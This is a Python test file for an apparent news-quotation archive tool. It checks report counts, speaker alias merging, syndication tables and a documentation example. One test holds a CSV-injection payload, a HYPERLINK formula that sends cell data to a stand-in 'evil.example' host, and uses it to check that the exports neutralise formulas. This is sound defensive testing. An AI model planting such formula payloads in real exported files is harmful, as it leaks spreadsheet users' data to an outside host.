"""The identity pass of ``indoquote report`` on a small tagged archive: its numbers are the Parquet output's,
the alias table reaches the files, and the DuckDB example of ``docs/archives.md`` runs."""

from __future__ import annotations

import csv
import re
from pathlib import Path

import pandas as pd
import pytest
from conftest import ROOT
from identity_data import tag

from indoquote.archive.output import read_output
from indoquote.cli.report import report_cli


@pytest.fixture(scope="module")
def archive(tmp_path_factory) -> Path:
    tmp = tmp_path_factory.mktemp("identity")
    out = tag(tmp)
    out.rename(tmp / "quotes")
    assert report_cli([str(tmp / "quotes"), "-o", str(tmp / "report")]) == 0
    return tmp


def read_csv(path: Path) -> list[dict]:
    with open(path, encoding="utf-8") as f:
        return list(csv.DictReader(f))


def test_the_report_numbers_are_the_parquet_output(archive):
    rows = read_output(archive / "quotes").to_pandas()
    ids = pd.read_parquet(archive / "report" / "quote_identity.parquet")
    quotes = (
        rows[rows["quote_index"].notna()].astype({"quote_index": "int64"}).merge(ids, on=["article_id", "quote_index"])
    )
    assert len(quotes) == len(ids) == int(rows["quote_index"].notna().sum())
    summary = {r["measure"]: r["value"] for r in read_csv(archive / "report" / "summary.csv")}
    assert int(summary["articles"]) == rows["article_id"].nunique() == 8
    assert int(summary["quotations"]) == len(quotes) == 7
    assert int(summary["speakers (people across the archive)"]) == quotes["speaker_id"].nunique() == 3
    assert (
        int(summary["unique quotations (copies across articles counted once)"])
        == quotes["quote_cluster_id"].nunique()
        == 6
    )
    per_cluster = quotes.groupby("quote_cluster_id")["article_id"].nunique()
    assert int(summary["quotations repeated in two or more articles"]) == int((per_cluster > 1).sum()) == 1
    speakers = {r["speaker_id"]: r for r in read_csv(archive / "report" / "speakers.csv")}
    counts = quotes.groupby("speaker_id").agg(n=("quote", "size"), u=("quote_cluster_id", "nunique"))
    assert {k: (int(v["quotations"]), int(v["unique quotations"])) for k, v in speakers.items()} == {
        k: (int(r.n), int(r.u)) for k, r in counts.iterrows()
    }
    assert speakers["joko-widodo"]["speaker"] == "Joko Widodo" and int(speakers["joko-widodo"]["quotations"]) == 3
    people = pd.read_parquet(archive / "report" / "identities.parquet").set_index("speaker_id")
    assert people.loc["joko-widodo", "quotations"] == 3 and "Jokowi" in people.loc["joko-widodo", "forms"]


def test_the_syndicated_quotation_and_the_merges_are_in_the_report(archive):
    rep = archive / "report"
    (repeated,) = read_csv(rep / "repeated_quotations.csv")
    assert repeated["speaker"] == "Joko Widodo" and repeated["outlets carrying it"] == "ANTARA, Kompas"
    assert repeated["first seen in"] == "ANTARA" and repeated["first date"] == "2021-03-01"
    (pair,) = read_csv(rep / "syndication.csv")
    assert (pair["outlet"], pair["with outlet"], pair["shared quotations"], pair["seen first in outlet"]) == (
        "ANTARA",
        "Kompas",
        "1",
        "1",
    )
    merges = {(m["speaker_id"], m["form"]): m["evidence"] for m in read_csv(rep / "name_merges.csv")}
    assert merges[("joko-widodo", "Jokowi")] == "article alias"
    assert merges[("agus-widodo", "Widodo")] == "short form, by role"  # `kata Kapolres AKBP Widodo`
    # one article links the short form: it joins as the one longer name holding it (SHORT_FORM_LINKS)
    assert merges[("sri-mulyani-indrawati", "Sri Mulyani")] == "only longer name"
    clusters = pd.read_parquet(rep / "quote_clusters.parquet")
    assert clusters["appearances"].sum() == 7 and clusters.iloc[0]["outlets"] == 2
    md = (rep / "report.md").read_text(encoding="utf-8")
    assert "## Quotations repeated across articles" in md and "## Name forms merged into one person" in md


def test_the_alias_table_reaches_the_files_and_no_identity_keeps_the_old_report(archive, tmp_path):
    table = tmp_path / "people.csv"
    table.write_text("id,name,aliases\nQ3209,Joko Widodo,Jokowi\n", encoding="utf-8")
    assert report_cli([str(archive / "quotes"), "-o", str(tmp_path / "rep"), "--aliases", str(table)]) == 0
    people = {r["speaker_id"]: r for r in read_csv(tmp_path / "rep" / "identities.csv")}
    assert people["joko-widodo"]["speaker_qid"] == "Q3209"
    assert report_cli([str(archive / "quotes"), "-o", str(tmp_path / "plain"), "--no-identity"]) == 0
    assert not (tmp_path / "plain" / "quote_identity.parquet").exists()
    names = {r["speaker"] for r in read_csv(tmp_path / "plain" / "speakers.csv")}
    assert {"Jokowi", "Joko Widodo"} <= names  # per article only: the alias is its own row
    bad = tmp_path / "bad.csv"
    bad.write_text("name\nJokowi\n", encoding="utf-8")
    assert report_cli([str(archive / "quotes"), "-o", str(tmp_path / "x"), "--aliases", str(bad)]) == 2


def test_the_duckdb_example_of_the_docs_runs(archive, monkeypatch):
    pytest.importorskip("duckdb")
    doc = (ROOT / "docs" / "archives.md").read_text(encoding="utf-8")
    block = re.search(r"<!-- example: tests/archive/test_identity_pass.py -->\n```python\n(.*?)```", doc, re.S).group(1)
    monkeypatch.chdir(archive)
    ns: dict = {}
    exec(compile(block, "docs/archives.md", "exec"), ns)
    top = ns["top_per_month"]
    assert list(top["month"].unique()) == ["2021-03", "2021-04"]
    march = top[top["month"] == "2021-03"].iloc[0]
    assert (march["person"], march["quotations"], march["unique_quotations"]) == ("Joko Widodo", 3, 2)
    assert ns["who"] == "joko-widodo" and len(ns["quotations"]) == 3
    assert dict(zip(ns["outlets"]["outlet"], ns["outlets"]["quotations"])) == {"ANTARA": 1, "Kompas": 1, "Tempo": 1}


def test_identity_csvs_neutralise_formulas_and_land_with_the_report(tmp_path):
    """A scraped name that a spreadsheet would run (issue 31) is text in every identity CSV, and the identity files
    are renamed into place only with the rest of the report's file set."""
    from indoquote.archive.identity_pass import annotate, tables, write_files
    from indoquote.archive.render import Report, write_csvs
    from indoquote.atomic import file_set

    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'
    df = pd.DataFrame({
        "article_id": ["a1", "a2", "a3"], "quote_index": [0, 0, 0], "outlet": ["ANTARA", hostile, "Tempo"],
        "speaker": [hostile, "Retno Marsudi", "Retno Marsudi"], "role": [None, "Menteri", "Menteri"],
        "affiliation": [None, None, None], "speaker_forms": [None, "Retno Marsudi | Retno", None],
        "quote": [hostile, "Indonesia menolak segala bentuk kekerasan di sana", "Indonesia menolak segala bentuk "
                  "kekerasan di sana"],
    })
    out, ids = annotate(df)
    report = Report("t", tables(out, ids, "outlet", None))
    with file_set() as files:
        written = write_files(files, tmp_path, out, ids, "outlet", None) + write_csvs(report, tmp_path, files)
        assert not any(p.exists() for p in written)  # nothing in place before the set is complete
    seen = 0
    for path in (p for p in written if p.suffix == ".csv"):
        for row in csv.reader(path.open(encoding="utf-8", newline="")):
            assert not any(c.startswith("=") for c in row), (path.name, row)
            seen += sum(c.startswith("'=HYPERLINK") for c in row)
    assert seen >= 3  # the name in identities.csv, the outlet in syndication.csv and repeated_quotations.csv: text
    assert pd.read_parquet(tmp_path / "identities.parquet")["name"].tolist().count(hostile) == 1  # the data as is
